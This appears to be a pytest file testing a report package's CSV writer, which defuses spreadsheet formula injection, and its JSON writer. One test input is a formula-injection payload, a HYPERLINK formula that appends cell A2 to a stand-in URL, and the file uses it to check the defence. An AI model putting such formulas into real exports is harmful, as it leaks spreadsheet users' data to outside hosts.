"""The writers: canonical text, cells that no spreadsheet runs, the same bytes each time."""

import csv
import io

import pytest

from reports.writers.csv import csv_bytes, harmless
from reports.writers.json import json_bytes


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        # bad_inputs.csv T08
        ('=HYPERLINK("http://x.invalid/"&A2)', '\'=HYPERLINK("http://x.invalid/"&A2)'),
        ("+44 20", "'+44 20"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        # numbers and plain words stay
        ("-0.05", "-0.05"),
        ("-1e-05", "-1e-05"),
        ("17", "17"),
        ("Escherichia coli", "Escherichia coli"),
        ("", ""),
    ],
)
def test_a_cell_that_would_run_gets_an_apostrophe_and_a_number_does_not(
    typed: str, written: str
) -> None:
    assert harmless(typed) == written


def test_a_changed_cell_is_quoted_so_that_it_stays_text() -> None:
    assert csv_bytes(("name",), [{"name": "@SUM(A1)"}]) == b'name\n"\'@SUM(A1)"\n'


@pytest.mark.parametrize("cell", ["a,b", 'say "so"', "two\nlines", "É coli"])
def test_what_is_written_reads_back(cell: str) -> None:
    written = csv_bytes(("one", "two"), [{"one": cell, "two": "2"}]).decode()

    assert list(csv.reader(io.StringIO(written, newline=""))) == [["one", "two"], [cell, "2"]]


def test_cells_without_need_have_no_quotes() -> None:
    rows = [{"value": "0.344003", "verdict": "meets_uncertain"}]

    assert csv_bytes(("value", "verdict"), rows) == b"value,verdict\n0.344003,meets_uncertain\n"


def test_json_keeps_the_order_of_its_keys_and_the_digits_of_its_numbers() -> None:
    document = {"value": 2 * 365.25 / 2017, "band": None}

    assert json_bytes(document) == b'{\n "value": 0.3621715418939018,\n "band": null\n}\n'


def test_json_refuses_what_no_reader_could_read() -> None:
    with pytest.raises(ValueError, match="JSON"):
        json_bytes({"value": float("nan")})
